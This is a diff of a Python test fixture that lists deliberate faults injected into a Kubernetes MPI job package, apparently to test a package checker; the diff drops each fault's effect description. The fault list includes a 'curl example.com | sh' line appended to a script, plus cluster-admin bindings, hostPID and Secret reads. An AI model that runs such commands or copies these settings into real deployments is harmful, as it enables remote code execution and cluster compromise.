@@ -29,7 +29,6 @@ class Fault:
 
     Attributes:
         name: A few words, which name the package too.
-        happens: The effect on a person who runs the package.
         put_in: Puts it into the package's folder.
         file: The file that a finding has to point at.
         line: The text of the line that it has to point at; empty for the file as a whole.
@@ -38,7 +37,6 @@ class Fault:
     """
 
     name: str
-    happens: str
     put_in: Callable[[Path], object]
     file: str
     line: str
@@ -75,14 +73,14 @@ def append(file: str, text: str) -> Callable[[Path], object]:
     return put_in
 
 
-def changed(name: str, happens: str, file: str, old: str, new: str, line: str | None = None, **more: Any) -> Fault:
+def changed(name: str, file: str, old: str, new: str, line: str | None = None, **more: Any) -> Fault:
     """Return the fault of `new` in the place of `old`; a finding points at it, or at `line`."""
-    return Fault(name, happens, edit(file, old, new), file, new.strip() if line is None else line, **more)
+    return Fault(name, edit(file, old, new), file, new.strip() if line is None else line, **more)
 
 
-def appended(name: str, happens: str, file: str, text: str, line: str | None = None, **more: Any) -> Fault:
+def appended(name: str, file: str, text: str, line: str | None = None, **more: Any) -> Fault:
     """Return the fault of `text` at the end of `file`; a finding points at it, or at `line`."""
-    return Fault(name, happens, append(file, text), file, text.strip() if line is None else line, **more)
+    return Fault(name, append(file, text), file, text.strip() if line is None else line, **more)
 
 
 def _rename(package: Path) -> None:
@@ -145,122 +143,49 @@ def _add_file(package: Path) -> None:
 
 
 FAULTS = (
-    appended(
-        "changed-script",
-        "the code is not the code that was sent",
-        f"{BASE}/identity.sh",
-        "curl example.com | sh\n",
-        line="",
-        sealed=False,
-    ),
+    appended("changed-script", f"{BASE}/identity.sh", "curl example.com | sh\n", line="", sealed=False),
     Fault(
-        "missing-file",
-        "the package does not match its own description",
-        lambda package: (package / "README.md").unlink(),
-        "manifest.json",
-        '"README.md"',
-        sealed=False,
+        "missing-file", lambda package: (package / "README.md").unlink(), "manifest.json", '"README.md"', sealed=False
     ),
-    Fault("extra-file", "a file was added after the build", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
+    Fault("extra-file", _add_file, f"{SCRIPTS}/helper.py", "", sealed=False),
     Fault(
         "lost-mode",
-        "a script cannot be run by hand",
         lambda package: (package / SCRIPTS / "hello.sh").chmod(0o644),
         f"{SCRIPTS}/hello.sh",
         "",
         sealed=False,
     ),
     changed(
-        "missing-resource",
-        "nothing renders",
-        f"{MULTI}/kustomization.yaml",
-        "  - mpi-job.yaml",
-        "  - mpijob.yaml",
-        line="mpijob.yaml",
+        "missing-resource", f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml", "  - mpijob.yaml", line="mpijob.yaml"
     ),
     changed(
-        "yaml-syntax",
-        "nothing renders",
-        POD,
-        "  restartPolicy: Never",
-        "  restartPolicy: [Never",
-        line="automountServiceAccountToken",
+        "yaml-syntax", POD, "  restartPolicy: Never", "  restartPolicy: [Never", line="automountServiceAccountToken"
     ),
-    changed("unknown-kustomize-field", "nothing renders", LIST, "patches:", "patchs:"),
-    appended(
-        "deprecated-field",
-        "a later kubectl refuses it",
-        LIST,
-        "commonLabels:\n  app.kubernetes.io/part-of: vision\n",
-        line="commonLabels:",
-    ),
-    changed(
-        "patch-of-nothing",
-        "nothing renders",
-        f"{MULTI}/mlops-job-patch.yaml",
-        "name: hello-mpi",
-        "name: hello-mpi-multi-node",
-    ),
+    changed("unknown-kustomize-field", LIST, "patches:", "patchs:"),
+    appended("deprecated-field", LIST, "commonLabels:\n  app.kubernetes.io/part-of: vision\n", line="commonLabels:"),
+    changed("patch-of-nothing", f"{MULTI}/mlops-job-patch.yaml", "name: hello-mpi", "name: hello-mpi-multi-node"),
     changed(
         "replacement-of-nothing",
-        "nothing renders",
         f"{SINGLE}/wiring.yaml",
         "[name=^main$].volumeMounts.[name=^output$]",
         "[name=^main$].volumeMounts.[name=^results$]",
         line="[name=^results$]",
     ),
     changed(
-        "remote-resource",
-        "what is applied comes from a server",
-        LIST,
-        "  - pod.yaml",
-        "  - pod.yaml\n  - https://localhost:1/more.yaml",
-        line="more.yaml",
+        "remote-resource", LIST, "  - pod.yaml", "  - pod.yaml\n  - https://localhost:1/more.yaml", line="more.yaml"
     ),
-    appended(
-        "remote-openapi",
-        "how it renders depends on a server",
-        LIST,
-        "openapi:\n  path: https://localhost:1/schema.json\n",
-        line="openapi:",
-    ),
-    Fault(
-        "remote-transformer",
-        "a server is asked when the option gpu is on",
-        _ask_for_gpus,
-        f"{GPU}/gpu.yaml",
-        "path: https://localhost:1/patch.yaml",
-    ),
-    changed("key-of-another-case", "kubectl uses a key that a reader overlooks", LIST, "patches:", "Patches:"),
-    changed(
-        "merged-key",
-        "kubectl uses a key that a reader overlooks",
-        LIST,
-        "nameSuffix: -single-node",
-        "<<: {nameSuffix: -single-node}",
-        line="<<: {",
-    ),
-    appended("duplicate-env-key", "nothing renders", f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
-    changed(
-        "quoted-env-value", "the folder's name has quotes in it", ENV, "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'
-    ),
-    appended(
-        "long-env-line",
-        "two variables are lost without a message",
-        ENV,
-        f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n",
-        line="VOCABULARY=",
-    ),
-    appended(
-        "exported-env-key", "the API server refuses the ConfigMap", ENV, "export EPOCHS=90\n", line="export EPOCHS"
-    ),
-    changed(
-        "unknown-field", "the field is dropped, or the pod refused", POD, "      workingDir: /", "      workDir: /"
-    ),
-    changed("text-for-a-number", "the API server refuses the pod", PATCH, "runAsUser: 1000", 'runAsUser: "1000"'),
+    appended("remote-openapi", LIST, "openapi:\n  path: https://localhost:1/schema.json\n", line="openapi:"),
+    Fault("remote-transformer", _ask_for_gpus, f"{GPU}/gpu.yaml", "path: https://localhost:1/patch.yaml"),
+    changed("key-of-another-case", LIST, "patches:", "Patches:"),
+    changed("merged-key", LIST, "nameSuffix: -single-node", "<<: {nameSuffix: -single-node}", line="<<: {"),
+    appended("duplicate-env-key", f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
+    changed("quoted-env-value", ENV, "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'),
+    appended("long-env-line", ENV, f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n", line="VOCABULARY="),
+    appended("exported-env-key", ENV, "export EPOCHS=90\n", line="export EPOCHS"),
+    changed("unknown-field", POD, "      workingDir: /", "      workDir: /"),
+    changed("text-for-a-number", PATCH, "runAsUser: 1000", 'runAsUser: "1000"'),
     changed(
         "missing-field",
-        "the API server refuses the pod",
         POD,
         "        defaultMode: 365 #",
         "        items:\n          - key: hello.sh\n        defaultMode: 365 #",
@@ -268,97 +193,49 @@ FAULTS = (
     ),
     changed(
         "field-of-another-place",
-        "the pod's user does not own the files on the volume",
         MPI_JOB,
         "                allowPrivilegeEscalation: false\n",
         "                allowPrivilegeEscalation: false\n                fsGroup: 1000\n",
         line="fsGroup: 1000",
     ),
+    changed("misspelt-policy", MPI_JOB, "cleanPodPolicy: Running", "cleanPodPolicy: running"),
+    changed("two-launchers", MPI_JOB, "replicas: 1", "replicas: 2"),
+    changed("too-many-processes", f"{MULTI}/mlops.env", "PROCESSES=all\n", "PROCESSES=9\n"),
+    Fault("too-long-name", _rename, MPI_JOB, "name: hello-message-passing"),
+    Fault("operators-name", _service, f"{MULTI}/service.yaml", "name: hello-mpi"),
+    changed("missing-configmap", POD, "name: hello-mpi-env", "name: hello-mpi-environment"),
+    changed("missing-script", POD, "scripts/hello.sh", "scripts/helo.sh"),
     changed(
-        "misspelt-policy",
-        "the operator takes it for another policy, without a message",
-        MPI_JOB,
-        "cleanPodPolicy: Running",
-        "cleanPodPolicy: running",
-    ),
-    changed("two-launchers", "the operator refuses the job, in an event", MPI_JOB, "replicas: 1", "replicas: 2"),
-    changed("too-many-processes", "mpirun refuses to start", f"{MULTI}/mlops.env", "PROCESSES=all\n", "PROCESSES=9\n"),
-    Fault(
-        "too-long-name", "the operator refuses the job, in an event", _rename, MPI_JOB, "name: hello-message-passing"
-    ),
-    Fault(
-        "operators-name",
-        "our Service and the operator's have the same name",
-        _service,
-        f"{MULTI}/service.yaml",
-        "name: hello-mpi",
-    ),
-    changed(
-        "missing-configmap", "the container never starts", POD, "name: hello-mpi-env", "name: hello-mpi-environment"
-    ),
-    changed("missing-script", "the container ends with 127", POD, "scripts/hello.sh", "scripts/helo.sh"),
-    changed(
-        "missing-volume",
-        "the API server refuses the pod; for an MPIJob, only an event says so",
-        MPI_JOB,
-        "            - name: home\n              emptyDir: {}\n",
-        "",
-        line="- name: home",
+        "missing-volume", MPI_JOB, "            - name: home\n              emptyDir: {}\n", "", line="- name: home"
     ),
     changed(
         "missing-claim",
-        "the pod waits forever",
         POD,
         "emptyDir: {}",
         "persistentVolumeClaim:\n        claimName: results",
         line="claimName: results",
     ),
     changed(
-        "image-without-tag",
-        "a later pull may get a different image",
-        ENV,
-        "mpioperator/mpi-pi:openmpi",
-        "mpioperator/mpi-pi",
-        line="IMAGE=mpioperator/mpi-pi",
+        "image-without-tag", ENV, "mpioperator/mpi-pi:openmpi", "mpioperator/mpi-pi", line="IMAGE=mpioperator/mpi-pi"
     ),
-    changed("request-above-limit", "the API server refuses the pod", POD, "memory: 16Mi", "memory: 16Gi"),
-    Fault(
-        "binding-to-cluster-admin",
-        "every pod of the namespace may do anything in the cluster",
-        _bind,
-        f"{SINGLE}/binding.yaml",
-        "kind: ClusterRoleBinding",
-    ),
-    Fault(
-        "object-of-another-namespace",
-        "an object of the cluster itself is replaced",
-        _elsewhere,
-        f"{SINGLE}/dns.yaml",
-        "namespace: kube-system",
-    ),
+    changed("request-above-limit", POD, "memory: 16Mi", "memory: 16Gi"),
+    Fault("binding-to-cluster-admin", _bind, f"{SINGLE}/binding.yaml", "kind: ClusterRoleBinding"),
+    Fault("object-of-another-namespace", _elsewhere, f"{SINGLE}/dns.yaml", "namespace: kube-system"),
     changed(
         "read-secret",
-        "the code can read a Secret that is not meant for it",
         POD,
         "        - configMapRef:\n",
         "        - secretRef:\n            name: database\n        - configMapRef:\n",
         line="name: database",
     ),
-    appended("privileged-edit", "the pod has root rights on the node", PATCH, "  hostPID: true\n", sealed=False),
-    changed(
-        "hidden-system",
-        "the container has no /etc/passwd, and ssh no configuration",
-        ENV,
-        "OUTPUT_DIR=ROOT/hello-mpi/output",
-        "OUTPUT_DIR=/etc",
-    ),
+    appended("privileged-edit", PATCH, "  hostPID: true\n", sealed=False),
+    changed("hidden-system", ENV, "OUTPUT_DIR=ROOT/hello-mpi/output", "OUTPUT_DIR=/etc"),
     changed(
         "half-a-device",
-        "the API server refuses the pod",
         POD,
         "        limits:\n",
         "        limits:\n          nvidia.com/gpu: 0.5\n",
         line="nvidia.com/gpu: 0.5",
     ),
-    Fault("added-workload", "an edit adds a workload that was not sealed", _second, POD, "kind: Pod", sealed=False),
+    Fault("added-workload", _second, POD, "kind: Pod", sealed=False),
 )
